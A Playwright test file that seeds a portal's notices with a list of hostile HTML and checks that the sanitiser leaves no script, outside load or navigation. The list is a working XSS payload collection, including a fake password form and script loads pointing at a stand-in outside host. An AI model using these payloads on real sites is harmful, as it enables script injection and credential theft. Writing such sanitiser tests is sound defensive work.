import { signInAt } from "./demo";
import { openPage } from "./pages";
import { inPortal } from "./portal";
import { expect, type Locator, type Page, test } from "./test";

const RUN = "document.documentElement.dataset.ran=1";
const FAR = "https://elsewhere.example";
/** What must never reach a buyer, put into the table itself: past every check on saving. */
const HOSTILE = [
  `<script>${RUN}</script>`,
  `<script src="${FAR}/x.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${FAR}/pixel.png">`,
  `<IMG SRC=x OnErRoR=${RUN}>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}></svg>#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<a href="javascript:${RUN}">link</a>`,
  `<a href="JaVa\tScRiPt:${RUN}">link</a>`,
  `<a href="&#106;avascript:${RUN}">link</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">link</a>`,
  `<a href="vbscript:msgbox(1)">link</a>`,
  `<a href="blob:${FAR}/1">link</a>`,
  `<a href="https://safe.example" onclick="${RUN}" onfocus="${RUN}" autofocus>link</a>`,
  `<a href="https://safe.example" style="position:fixed;inset:0">link</a>`,
  `<style>* { display: none }</style>`,
  `<style>@import "${FAR}/x.css"</style>`,
  `<link rel="stylesheet" href="${FAR}/x.css">`,
  `<p style="background:url(${FAR}/bg.png)">text</p>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="${FAR}"><input name="password" autofocus onfocus="${RUN}"><button>Sign in</button></form>`,
  `<button formaction="javascript:${RUN}">press</button>`,
  `<base href="${FAR}/">`,
  `<meta http-equiv="refresh" content="0;url=${FAR}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<details open ontoggle="${RUN}">text</details>`,
  `<marquee onstart="${RUN}">text</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<p title="</p><script>${RUN}</script>">text</p>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror="${RUN}">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<b id="portal-config" class="x" data-notice="1">clobbered</b>`,
];

// Beside notices whose own text shows, so that a test sees them drawn.
const MARK = "The text of the notice";
const titleOf = (index: number) => `Hostile markup ${index}`;
const EVERYTHING = "Hostile markup altogether";

test.beforeAll(() => {
  const notices = HOSTILE.map((html, index) => ({ title: titleOf(index), html }));
  notices.push({ title: EVERYTHING, html: HOSTILE.join("") });
  inPortal(
    `
from datetime import timedelta
from django.utils import timezone
from apps.notices.models import Notice
now = timezone.now()
window = {"popup_from": now - timedelta(hours=1), "popup_until": now + timedelta(hours=1)}
for row in data:
    Notice.objects.create(title=row["title"], content=row["html"], published_at=now - timedelta(minutes=1), **window)
`,
    notices.map((notice) => ({ ...notice, html: `<p>${MARK}</p>${notice.html}` })),
  );
});

test.afterAll(() => {
  inPortal(
    'from apps.notices.models import Notice\nNotice.objects.filter(title__startswith="Hostile markup").delete()',
  );
});

/** Each text is drawn, and holds nothing but paragraphs, headings, lists, tables, emphasis and safe links. */
async function expectHarmless(notices: Locator, count: number) {
  const marks = notices.getByText(MARK);
  await expect(marks).toHaveCount(count);
  const found = await marks.evaluateAll((paragraphs) => {
    const SAFE = /^(https?|mailto):/;
    const allowed = "p, br, h2, h3, strong, b, em, i, ul, ol, li, a, table, tbody, tr, td, th";
    const elements = paragraphs.flatMap((one) => [
      ...(one.parentElement?.querySelectorAll("*") ?? []),
    ]);
    const attributes = elements.flatMap((element) =>
      [...element.attributes].map(({ name, value }) => ({ on: element.localName, name, value })),
    );
    return {
      elements: elements.filter((it) => !it.matches(allowed)).map((it) => it.outerHTML),
      attributes: attributes.filter(({ on, name, value }) => {
        if (name === "title" || name === "lang") return false;
        return on !== "a" || !(name === "rel" || (name === "href" && SAFE.test(value)));
      }),
    };
  });
  expect(found).toEqual({ elements: [], attributes: [] });
}

test("no markup of a notice runs a script, loads anything or leaves the page", async ({
  browser,
}) => {
  const problems: string[] = [];
  const page: Page = await openPage(browser, problems);
  const own = () => new URL(page.url()).origin;
  page.on("dialog", (dialog) => {
    problems.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (page.url() !== "about:blank" && new URL(request.url()).origin !== own()) {
      problems.push(`request: ${request.url()}`);
    }
  });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      console.error(`policy: ${event.violatedDirective} ${event.blockedURI}`);
    });
  });

  await signInAt(page, "/dashboard");

  // All as popups, then one from the list of notices.
  const dialogs = page.getByRole("dialog", { name: "Hostile markup" });
  await expectHarmless(dialogs, HOSTILE.length + 1);
  await page.goto("/notice");
  await page.getByRole("button", { name: EVERYTHING }).click();
  await expectHarmless(dialogs, 1);
  await page.keyboard.press("Escape");
  await expect(dialogs).toHaveCount(0);

  await expect(page).toHaveURL(/\/notice$/);
  expect(await page.evaluate(() => document.documentElement.dataset.ran)).toBeUndefined();
  expect(problems).toEqual([]);
});
